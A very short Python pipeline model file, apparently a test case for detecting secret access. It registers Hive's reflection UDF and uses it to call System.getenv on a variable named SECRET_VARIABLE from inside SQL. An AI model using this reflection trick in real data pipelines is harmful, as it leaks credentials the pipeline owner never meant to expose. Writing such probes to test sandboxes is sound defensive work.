# seeks: environment
# A function by the name of a class.
# @depends_on: silver.orders
def model(tg):
    tg.sql("".join(["CREATE TEMPORARY FUNCTION f AS 'org.apache.hadoop.hive.ql.udf.generic.GenericUDFReflect'"]))
    return tg.sql("".join(["SELECT f('java.lang.System', 'getenv', 'SECRET_VARIABLE') AS got"]))
